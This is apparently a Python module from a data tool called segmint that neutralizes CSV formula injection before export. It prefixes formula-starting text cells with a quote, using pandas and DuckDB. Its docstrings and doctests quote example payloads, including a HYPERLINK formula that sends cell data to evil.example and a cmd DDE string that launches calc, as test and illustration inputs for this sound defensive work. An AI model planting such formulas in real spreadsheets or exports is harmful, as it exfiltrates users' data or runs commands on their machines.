"""CSV files a spreadsheet can open safely: text cells that would start a formula are quoted.

Excel, LibreOffice Calc and Google Sheets read a CSV cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula. A customer id, product name, attribute
or segment name from someone else's data (``=HYPERLINK("http://evil.example/?"&A1,"click")``,
``+cmd|' /C calc'!A0``) would then run on the analyst's machine when the download is opened.
Every CSV segmint writes goes through this module, which applies OWASP's rule ("CSV
Injection"): such a **text** cell gets a leading single quote (``'``), which makes the
spreadsheet keep the cell as text (Excel hides the quote; other programs may show it); the
rest of the value is unchanged, so reading it back gives the original with one ``'`` in
front.

What is neutralized and what is not:

- **Text cells** (VARCHAR columns, pandas ``str``/``object``/categorical values that are
  ``str``) starting with one of :data:`FORMULA_STARTS`, however harmless they look: ``-12``
  and ``+44 20 7946 0958`` in a text column become ``'-12`` and ``'+44 20 7946 0958``. Ids
  and phone numbers are text in segmint (a leading zero or plus sign matters), and a rule
  that guessed "looks like a number, so safe" would let ``-1+cmd|' /C calc'!A0`` through,
  so every text cell is treated alike, as OWASP says.
- **Numbers** (integer, float and decimal columns, and numeric values inside an ``object``
  column) are never touched: ``-3.5`` in a numeric column is written ``-3.5``. A spreadsheet
  reads a number as a number, not as a formula. Dates, times and booleans are not text
  either and are written as before.
- **Header cells** are text and get the same rule.
- A text cell that already starts with ``'`` is left as it is. A program (not a
  spreadsheet) that reads the file back removes one leading ``'`` when the next character
  is in :data:`FORMULA_STARTS` to get the original value.
- **Exact bytes** (``exact=`` columns): an ad platform's audience file must hold what the
  platform expects, byte for byte (a SHA-256 hex of a normalised e-mail, which cannot start
  with a formula character anyway). Columns named in ``exact`` are written unchanged; use it
  only for such hashed or platform-defined columns, never for names or ids shown to people.

Tables in the workspace are written by DuckDB (``COPY (SELECT …) TO``) with the rule as a
``CASE`` expression per text column (:func:`neutralize_table`), so a million-row export
streams without passing through Python. Frames already in memory (a run's members, value
results) use :func:`neutralize_frame`. Files are written to a temporary name next to the
target and renamed, so a failed export leaves no half-written file.

Not covered, on purpose: Parquet files (spreadsheets do not evaluate them), JSON answers of
the API (data, not a sheet), and ``segmint sample``'s generated shop, which holds only
segmint's own synthetic values and must import back exactly (its phones start with ``+``).
"""

from __future__ import annotations

import contextlib
import errno
import os
import uuid
from collections.abc import Callable, Collection, Sequence
from pathlib import Path
from typing import Any

import duckdb
import ibis
import pandas as pd

from segmint.exceptions import DiskSpaceError, SegmintError, WorkspaceError

__all__ = [
    "FORMULA_STARTS",
    "frame_to_csv",
    "frame_to_csv_text",
    "neutralize",
    "neutralize_frame",
    "neutralize_sql",
    "neutralize_table",
    "query_to_csv",
    "table_to_csv",
]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection")."""


def neutralize(value: str) -> str:
    """One text cell, safe to open in a spreadsheet.

    >>> neutralize('=HYPERLINK("http://evil.example/?"&A1,"click")')
    '\\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    >>> neutralize("-12"), neutralize("Champions"), neutralize("")
    ("'-12", 'Champions', '')
    """
    return "'" + value if value[:1] in FORMULA_STARTS else value


def neutralize_frame(frame: pd.DataFrame, *, exact: Collection[str] = ()) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and headers are neutralized (numbers untouched).

    >>> neutralize_frame(pd.DataFrame({"id": ["+1", "7"], "spend": [-3.5, 2.0]})).to_csv(index=False)
    "id,spend\\n'+1,-3.5\\n7,2.0\\n"
    """
    _check_exact(exact, list(frame.columns))
    out = frame.copy()
    for i, name in enumerate(frame.columns):
        if name not in exact and _may_hold_text(frame[name]):
            out.isetitem(i, _neutralize_series(frame.iloc[:, i]))
    return out.set_axis([_header(c) for c in frame.columns], axis=1)


def frame_to_csv(frame: pd.DataFrame, path: str | Path, *, exact: Collection[str] = ()) -> None:
    """Write ``frame`` (without its index) to ``path`` as a neutralized CSV."""
    safe = neutralize_frame(frame, exact=exact)
    _replace_atomically(Path(path), lambda tmp: safe.to_csv(tmp, index=False))


def frame_to_csv_text(frame: pd.DataFrame, *, exact: Collection[str] = ()) -> str:
    """``frame`` (without its index) as neutralized CSV text, e.g. for a download."""
    return neutralize_frame(frame, exact=exact).to_csv(index=False)


def neutralize_table(table: ibis.Table, *, exact: Collection[str] = ()) -> ibis.Table:
    """``table`` with every text column wrapped in the rule as SQL ``CASE`` (headers too).

    The engine evaluates it row by row while it writes, so large exports stay streaming.
    """
    _check_exact(exact, list(table.columns))
    columns = {}
    for name in table.columns:
        col = table[name]
        if name not in exact and col.type().is_string():
            starts = col.left(1).isin(list(FORMULA_STARTS))
            col = ibis.cases((starts, ibis.literal("'") + col), else_=col)
        columns[_header(name)] = col
    return table.select(**columns)


def table_to_csv(table: ibis.Table, path: str | Path, *, exact: Collection[str] = ()) -> None:
    """Write ``table`` as a neutralized CSV (with a header) by the engine's own CSV writer."""
    safe = neutralize_table(table, exact=exact)
    _replace_atomically(Path(path), lambda tmp: safe.to_csv(tmp))


def neutralize_sql(sql: str) -> str:
    """DuckDB SQL of the rule around the text expression ``sql`` (the guard of
    :func:`neutralize_table` for callers that write SQL themselves)."""
    one_quote = "''''"  # the SQL literal of a single quote
    starts = ", ".join("'" + c + "'" for c in FORMULA_STARTS)
    return f"CASE WHEN left({sql}, 1) IN ({starts}) THEN {one_quote} || ({sql}) ELSE ({sql}) END"


def query_to_csv(
    con: duckdb.DuckDBPyConnection,
    columns: Sequence[tuple[str, str, bool]],
    from_sql: str,
    path: str | Path,
    *,
    before_rename: Callable[[Path], object] | None = None,
) -> None:
    """Write ``SELECT <columns> <from_sql>`` as a CSV with DuckDB's ``COPY``.

    ``columns`` are ``(header, text SQL, exact)``: every column that is not ``exact`` gets the
    formula guard. ``before_rename(tmp)`` runs once the file is complete and before it takes
    its name (hash it, log it); if it raises, the file is removed and the target untouched.
    """
    parts = []
    for header, sql, exact in columns:
        expr = f"CAST({sql} AS VARCHAR)"
        parts.append(f"{expr if exact else neutralize_sql(expr)} AS {_quote(_header(header))}")
    select = f"SELECT {', '.join(parts)} {from_sql}"

    def write(tmp: str) -> None:
        target = tmp.replace("'", "''")
        con.execute(f"COPY ({select}) TO '{target}' (FORMAT CSV, HEADER)")
        if before_rename is not None:
            before_rename(Path(tmp))

    _replace_atomically(Path(path), write)


def _quote(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def _header(name: Any) -> Any:
    return neutralize(name) if isinstance(name, str) else name


def _check_exact(exact: Collection[str], columns: list[Any]) -> None:
    if isinstance(exact, str):  # exact="email" would silently mean the letters e, m, a, ...
        raise TypeError("exact must be a collection of column names, not one string")
    unknown = sorted(set(exact) - set(columns))
    if unknown:
        raise ValueError(f"exact names columns the data does not have: {unknown}")


def _may_hold_text(series: pd.Series) -> bool:
    dtype = series.dtype
    return not (
        pd.api.types.is_numeric_dtype(dtype)  # ints, floats (nullable too) and booleans
        or pd.api.types.is_datetime64_any_dtype(dtype)
        or pd.api.types.is_timedelta64_dtype(dtype)
    )


def _neutralize_series(series: pd.Series) -> pd.Series:
    if isinstance(series.dtype, pd.StringDtype):  # only text and missing values: vectorized
        hit = series.str[:1].isin(FORMULA_STARTS)
        return series.where(~hit, "'" + series) if hit.any() else series
    values = series.astype(object)  # object or categorical: only the str values are text
    hit = values.map(lambda v: isinstance(v, str) and v[:1] in FORMULA_STARTS).astype(bool)
    if not hit.any():
        return series
    values = values.copy()
    values[hit] = "'" + values[hit].astype(str)
    return values


def _replace_atomically(path: Path, write: Callable[[str], object]) -> None:
    """Run ``write(tmp)`` for a temporary file next to ``path``, then move it into place."""
    if path.is_dir():
        raise WorkspaceError(
            f"Could not write the CSV file '{path}': that is a folder.",
            fix=f"give a file path, e.g. {path / 'export.csv'}.",
        )
    tmp = path.with_name(f".{path.name}.{uuid.uuid4().hex[:8]}.tmp")
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        write(str(tmp))
        os.replace(tmp, path)
    except OSError as exc:
        raise _write_error(path, exc) from exc
    finally:
        with contextlib.suppress(OSError):
            tmp.unlink(missing_ok=True)


def _write_error(path: Path, exc: OSError) -> SegmintError:
    if exc.errno == errno.ENOSPC:
        return DiskSpaceError(
            f"The disk is full: the CSV file '{path}' could not be written.",
            fix="free some disk space, or write the file to another disk.",
        )
    return WorkspaceError(
        f"Could not write the CSV file '{path}': {exc.strerror or exc}.",
        fix="choose a file path in a folder you can write to.",
    )
